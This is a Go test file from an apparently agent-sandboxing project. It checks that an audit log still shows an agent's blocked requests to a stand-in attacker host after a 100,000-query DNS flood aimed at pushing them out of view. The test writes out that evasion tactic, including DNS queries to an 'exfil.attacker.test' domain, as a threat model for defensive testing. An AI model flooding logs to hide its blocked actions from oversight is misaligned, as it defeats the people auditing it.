package egress

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/nixcage/nixcage/internal/auditlog"
	"github.com/nixcage/nixcage/internal/daemon/daemontest"
	"github.com/nixcage/nixcage/internal/egress/audit"
	"github.com/nixcage/nixcage/internal/paths"
	"github.com/nixcage/nixcage/internal/policy"
)

// The agent tries to push its own blocked request out of every bounded
// view of the audit log with a DNS flood: one blocked HTTP request, 100k
// DNS queries for distinct names, another blocked request. Both requests
// must be among the newest records of the gateway's audit file and of
// caged's ReadAudit (1000 records, what `cagectl audit -n 1000` shows), and
// in the evidence excerpt even when the excerpt is far smaller than the
// log; every DNS query is still counted (single records plus summaries).
func TestThreatDNSFloodCannotHideRequests(t *testing.T) {
	c := daemontest.Start(t, `
agent "alice" {
  backend = "service"
  command = ["/bin/sleep", "infinity"]
}
`)
	auditFile := c.Path(filepath.Join(paths.AuditDir("alice"), "audit.jsonl"))
	if err := os.MkdirAll(filepath.Dir(auditFile), 0o755); err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, func(rt *policy.Runtime) { rt.AuditFile = auditFile })
	cl := h.client(false)
	blocked := func(path string) {
		code, _, _, err := h.do(cl, "GET", "http://evil.attacker.test"+path, nil, "")
		if err != nil || code != http.StatusForbidden {
			t.Fatalf("blocked request %s: %d %v", path, code, err)
		}
	}
	blocked("/before-the-flood")

	const workers, perWorker = 16, 6250 // 100k queries
	var wg sync.WaitGroup
	for w := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			conn, err := (&dns.Client{Net: "udp"}).Dial(h.dnsAddr)
			if err != nil {
				t.Error(err)
				return
			}
			defer conn.Close()
			for i := range perWorker {
				m := new(dns.Msg)
				m.SetQuestion(fmt.Sprintf("q%d-%d.exfil.attacker.test.", w, i), dns.TypeA)
				conn.SetDeadline(time.Now().Add(5 * time.Second))
				if err := conn.WriteMsg(m); err != nil {
					t.Error(err)
					return
				}
				if _, err := conn.ReadMsg(); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Wait()
	blocked("/after-the-flood")
	h.want(t, func(r audit.Record) bool { return r.Path == "/after-the-flood" }, audit.Blocked, "default-deny")

	present := func(lines []string) (before, after bool) {
		for _, l := range lines {
			before = before || strings.Contains(l, `"path":"/before-the-flood"`)
			after = after || strings.Contains(l, `"path":"/after-the-flood"`)
		}
		return
	}
	lines, _, err := auditlog.Read(auditFile, -1, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if b, a := present(lines); !b || !a {
		t.Fatalf("newest 1000 records of the audit file: request before the flood %v, after %v", b, a)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	lines, _, err = c.Client().ReadAudit(ctx, "alice", -1, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if b, a := present(lines); !b || !a {
		t.Fatalf("caged ReadAudit newest 1000: request before the flood %v, after %v", b, a)
	}

	// Every query is counted: single records plus summary counts.
	waitFor(t, "every DNS query counted", func() bool {
		var n int64
		for _, r := range h.records(t) {
			if r.Method == "DNS" && strings.HasSuffix(r.Host, "exfil.attacker.test") && r.Event == audit.EventRequest {
				n++
			}
			if r.Event == audit.EventSummary && r.Rule == "audit-budget:dns" {
				n += r.Count
			}
		}
		return n == workers*perWorker
	})
	fi, _ := os.Stat(auditFile)
	t.Logf("audit file after %d DNS queries: %d records, %d bytes", workers*perWorker, len(h.records(t)), fi.Size())

	// The evidence excerpt, far smaller than the log, keeps both requests
	// and counts the DNS records it left out.
	var ex bytes.Buffer
	if err := auditlog.Excerpt(&ex, auditFile, "alice", 16<<10); err != nil {
		t.Fatal(err)
	}
	exLines := strings.Split(strings.TrimSpace(ex.String()), "\n")
	if b, a := present(exLines); !b || !a {
		t.Fatalf("evidence excerpt: request before the flood %v, after %v", b, a)
	}
	var last auditlog.Record
	if err := json.Unmarshal([]byte(exLines[len(exLines)-1]), &last); err != nil || last.Rule != "evidence-excerpt" || !strings.Contains(last.Reason, "dns blocked") {
		t.Fatalf("excerpt does not end with the count of what it left out: %q", exLines[len(exLines)-1])
	}
}
